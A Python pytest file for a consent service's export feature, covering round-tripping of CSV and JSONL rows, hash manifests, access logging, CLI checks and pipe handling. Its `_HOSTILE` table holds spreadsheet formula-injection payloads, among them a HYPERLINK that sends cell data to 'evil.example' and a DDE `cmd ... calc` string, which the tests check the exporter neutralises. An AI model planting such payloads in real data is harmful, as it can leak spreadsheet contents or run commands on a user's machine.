"""Exports: streamed oldest first, parse back to exactly the stored rows, with a manifest (C23)."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from consent_service.admin.export.manifest import manifest_path
from consent_service.admin.export.rows import parse_csv, parse_file, parse_jsonl
from consent_service.audit.chain import row_hash
from consent_service.audit.events import AuditRow
from consent_service.cli.main import main
from consent_service.store import open_store

from ..conftest import EDGES, signed
from ..core.helpers import event
from .conftest import bearer, consent, stored_rows


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_c23_export_parses_back_to_exactly_the_rows_stored(
    fmt: str,
    admin_client: TestClient,
    make_token: Callable[..., str],
    seed: Callable[[], list[dict[str, Any]]],
    database_url: str,
) -> None:
    token = make_token("demo")
    seed()
    answer = admin_client.get(f"/admin/v1/sites/demo/consents?format={fmt}", headers=bearer(token))
    assert answer.status_code == 200
    assert "attachment" in answer.headers["content-disposition"]
    text = answer.content.decode("utf-8")
    parse = parse_csv if fmt == "csv" else parse_jsonl
    rows = list(parse(io.StringIO(text, newline="")))
    stored = stored_rows(database_url, "demo")
    assert rows == stored
    assert len(rows) == 6
    assert [r.seq for r in rows] == sorted(r.seq for r in rows)
    assert {r.site_id for r in rows} == {"demo"}

    manifest = _manifest_of(admin_client, token, fmt, answer)
    assert manifest["rows"] == 6
    assert (manifest["first_seq"], manifest["last_seq"]) == (stored[0].seq, stored[-1].seq)
    assert manifest["chain_head"] == stored[-1].hash


def _manifest_of(client: TestClient, token: str, fmt: str, answer: Any) -> dict[str, Any]:
    """The manifest of the export ``answer`` (same pin), checked against its bytes."""
    upto = answer.headers["kakor-upto-seq"]
    manifest: dict[str, Any] = client.get(
        f"/admin/v1/sites/demo/consents/manifest?format={fmt}&upto_seq={upto}",
        headers=bearer(token),
    ).json()
    assert manifest["sha256"] == hashlib.sha256(answer.content).hexdigest()
    return manifest


@pytest.mark.parametrize("clock", EDGES, indirect=True)
def test_export_is_pinned_and_filtered_by_period(
    admin_client: TestClient,
    make_token: Callable[..., str],
    seed: Callable[[], list[dict[str, Any]]],
) -> None:
    token = make_token("demo")
    made = seed()
    first = admin_client.get("/admin/v1/sites/demo/consents?format=jsonl", headers=bearer(token))
    upto = first.headers["kakor-upto-seq"]
    consent(admin_client, action="accept-all")  # after the export started
    again = admin_client.get(
        f"/admin/v1/sites/demo/consents?format=jsonl&upto_seq={upto}", headers=bearer(token)
    )
    assert again.content == first.content
    day_two = made[-1]["given_at"][:10]
    period = admin_client.get(
        f"/admin/v1/sites/demo/consents?format=jsonl&since={day_two}&until={day_two}",
        headers=bearer(token),
    )
    ids = [json.loads(line)["consent_id"] for line in period.text.splitlines()]
    assert ids == [m["consent_id"] for m in made[4:]] + [ids[-1]]
    assert len(ids) == 3


def test_bad_export_queries_are_422(
    admin_client: TestClient, make_token: Callable[..., str]
) -> None:
    token = make_token("demo")
    for query in (
        "format=xml",
        "since=yesterday",
        "since=2026-11-02&until=2026-11-01",
        "upto_seq=x",
    ):
        answer = admin_client.get(f"/admin/v1/sites/demo/consents?{query}", headers=bearer(token))
        assert answer.status_code == 422, query
        assert answer.json()["error"]["code"] == "invalid_field"


def test_c23_every_export_is_in_the_access_log(
    admin_client: TestClient,
    make_token: Callable[..., str],
    seed: Callable[[], list[dict[str, Any]]],
) -> None:
    token = make_token("demo")
    seed()
    admin_client.get(
        "/admin/v1/sites/demo/consents?format=csv&since=2020-01-01", headers=bearer(token)
    )
    entries = admin_client.get("/admin/v1/sites/demo/access-log", headers=bearer(token)).json()[
        "entries"
    ]
    [entry] = entries
    me = admin_client.get("/admin/v1/me", headers=bearer(token)).json()
    assert entry["action"] == "export"
    assert entry["token_id"] == me["token_id"]
    assert entry["role"] == "officer"
    assert entry["detail"]["format"] == "csv"
    assert entry["detail"]["since"] == "2020-01-01T00:00:00.000000Z"
    assert entry["at"].endswith("Z")


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_cli_export_writes_a_file_and_manifest_that_check_later(
    suffix: str,
    seed: Callable[[], list[dict[str, Any]]],
    database_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    seed()
    out = tmp_path / f"demo.{suffix}"
    assert main(["export", "--site", "demo", "--output", str(out), "--database", database_url]) == 0
    manifest = json.loads(manifest_path(out).read_text())
    assert manifest["format"] == suffix
    assert manifest["rows"] == 6
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    capsys.readouterr()
    assert main(["export", "--check", str(out)]) == 0
    assert json.loads(capsys.readouterr().out)["ok"] is True
    # an edited byte is found, by the file hash and by the row's own hash
    out.write_bytes(out.read_bytes().replace(b"reject-all", b"accept-all", 1))
    assert main(["export", "--check", str(out)]) == 1
    problems = json.loads(capsys.readouterr().out)["problems"]
    assert any("SHA-256" in p for p in problems)
    assert any("does not match its hash" in p for p in problems)
    capsys.readouterr()
    assert main(["access-log", "--database", database_url]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(e["action"], e["token_id"]) for e in lines] == [("export", "cli")]


#: Values a spreadsheet would run as formulas, and the cells they are exported as: a "'"
#: before the value, and before what follows a TAB or CR in it (where a paste starts a
#: new cell or row). The last one only looks like the mark and must come back as it was.
_HOSTILE = {
    '=HYPERLINK("https://evil.example/?"&A1,"click")': (
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    ),
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "'=1+1": "''=1+1",
}


def _append_hostile(database_url: str) -> list[AuditRow]:
    """One row per hostile ``widget_version``, written past the API's door (the store's)."""

    async def go() -> list[AuditRow]:
        store = signed(open_store(database_url))
        await store.open()
        try:
            made = []
            for n, value in enumerate(_HOSTILE):
                hostile = event("demo", n)
                hostile.widget_version = value
                hostile.page = "https://x.se/a;=1+1"
                hostile.browser = "@Firefox/Linux"
                made.append(hostile)
            return await store.append(made)
        finally:
            await store.close()

    return asyncio.run(go())


def _csv_cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_hostile_cells_are_neutralised_in_csv_and_exact_in_jsonl(
    fmt: str,
    admin_client: TestClient,
    make_token: Callable[..., str],
    database_url: str,
) -> None:
    token = make_token("demo")
    stored = _append_hostile(database_url)
    answer = admin_client.get(f"/admin/v1/sites/demo/consents?format={fmt}", headers=bearer(token))
    assert answer.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(answer.content)
        assert [c["widget_version"] for c in cells] == list(_HOSTILE.values())
        assert {c["page"] for c in cells} == {"https://x.se/a;'=1+1"}
        assert {c["browser"] for c in cells} == {"'@Firefox/Linux"}
        rows = list(parse_csv(io.StringIO(answer.content.decode("utf-8"), newline="")))
    else:
        lines = [json.loads(line) for line in answer.content.decode("utf-8").splitlines()]
        assert [line["widget_version"] for line in lines] == list(_HOSTILE)
        assert b"https://x.se/a;=1+1" in answer.content
        rows = list(parse_jsonl(io.StringIO(answer.content.decode("utf-8"))))
    assert rows == stored
    assert all(row_hash(r.seq, r.prev_hash, r) == r.hash for r in rows)
    assert _manifest_of(admin_client, token, fmt, answer)["rows"] == len(_HOSTILE)


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_cli_export_of_hostile_cells_checks_and_rehashes(
    suffix: str,
    admin_client: TestClient,
    database_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    stored = _append_hostile(database_url)
    out = tmp_path / f"demo.{suffix}"
    assert main(["export", "--site", "demo", "--output", str(out), "--database", database_url]) == 0
    if suffix == "csv":
        cells = _csv_cells(out.read_bytes())
        assert [c["widget_version"] for c in cells] == list(_HOSTILE.values())
    assert list(parse_file(out, suffix)) == stored
    capsys.readouterr()
    assert main(["export", "--check", str(out)]) == 0
    assert json.loads(capsys.readouterr().out) == {"ok": True, "rows": 7, "problems": []}


def test_cli_export_writes_to_stdout_by_default_and_the_manifest_when_asked(
    seed: Callable[[], list[dict[str, Any]]],
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    seed()
    here = tmp_path / "work"
    here.mkdir()
    monkeypatch.chdir(here)
    base = ["export", "--site", "demo", "--database", database_url]
    file = here / "demo.csv"
    assert main([*base, "--output", str(file)]) == 0
    capsysbinary.readouterr()

    assert main(base) == 0
    plain = capsysbinary.readouterr()
    assert plain.out == file.read_bytes()  # the file and nothing else
    assert plain.err == b""
    assert sorted(p.name for p in here.iterdir()) == ["demo.csv", "demo.csv.manifest.json"]

    side = here / "stdout.manifest.json"
    assert main([*base, "--output", "-", "--format", "jsonl", "--manifest", str(side)]) == 0
    dashed = capsysbinary.readouterr()
    assert dashed.err == b""
    assert dashed.out.startswith(b'{"seq":')
    manifest = json.loads(side.read_text())
    assert manifest["format"] == "jsonl"
    assert manifest["rows"] == 6
    assert manifest["sha256"] == hashlib.sha256(dashed.out).hexdigest()
    saved = here / "saved.jsonl"
    saved.write_bytes(dashed.out)
    assert main(["export", "--check", str(saved), "--manifest", str(side)]) == 0
    assert json.loads(capsysbinary.readouterr().out)["ok"] is True

    assert main([*base, "--manifest", "-"]) == 2  # standard output is the file's alone
    assert capsysbinary.readouterr().out == b""

    assert main(["access-log", "--database", database_url]) == 0
    entries = [json.loads(line) for line in capsysbinary.readouterr().out.splitlines()]
    assert [e["detail"]["output"] for e in entries] == [str(file), "-", "-"]


def _append_many(database_url: str, count: int) -> None:
    async def go() -> None:
        store = signed(open_store(database_url))
        await store.open()
        try:
            await store.migrate()
            await store.append([event("demo", n) for n in range(count)])
        finally:
            await store.close()

    asyncio.run(go())


@pytest.mark.parametrize("dash", [False, True])
def test_cli_export_to_a_pipe_that_closes_early_stops_quietly(
    dash: bool, database_url: str, tmp_path: Path
) -> None:
    _append_many(database_url, 3000)  # about 1.3 MB of CSV: far more than a pipe holds
    command = [sys.executable, "-m", "consent_service", "export", "--site", "demo"]
    command += ["--database", database_url] + (["--output", "-"] if dash else [])
    pipe, here = subprocess.PIPE, tmp_path / "work"
    here.mkdir()
    with subprocess.Popen(command, stdout=pipe, stderr=pipe, cwd=here) as exporter:
        assert exporter.stdout is not None
        with subprocess.Popen(["head", "-c", "10"], stdin=exporter.stdout, stdout=pipe) as head:
            exporter.stdout.close()  # head holds the only read end now
            taken, _ = head.communicate(timeout=60)
        _, complaint = exporter.communicate(timeout=60)
    assert taken == b"seq,event_"
    assert complaint == b""
    assert exporter.returncode == 141  # as if ended by SIGPIPE, the shell's convention
    assert list(here.iterdir()) == []  # no manifest unless asked


def test_any_command_into_a_pipe_that_closes_early_stops_quietly(
    database_url: str, tmp_path: Path
) -> None:
    """Not only export: a command whose reader has already gone (``| head -c 0``, which
    exits before the interpreter has started) ends without a traceback, as SIGPIPE would."""
    _append_many(database_url, 10)
    argv = [sys.executable, "-m", "consent_service", "verify", "--database", database_url]
    pipe = subprocess.PIPE
    with subprocess.Popen(argv, stdout=pipe, stderr=pipe) as cli:
        assert cli.stdout is not None
        with subprocess.Popen(["head", "-c", "0"], stdin=cli.stdout, stdout=pipe) as head:
            cli.stdout.close()
            taken, _ = head.communicate(timeout=60)
        _, complaint = cli.communicate(timeout=60)
    assert taken == b""
    assert complaint == b""
    assert cli.returncode == 141
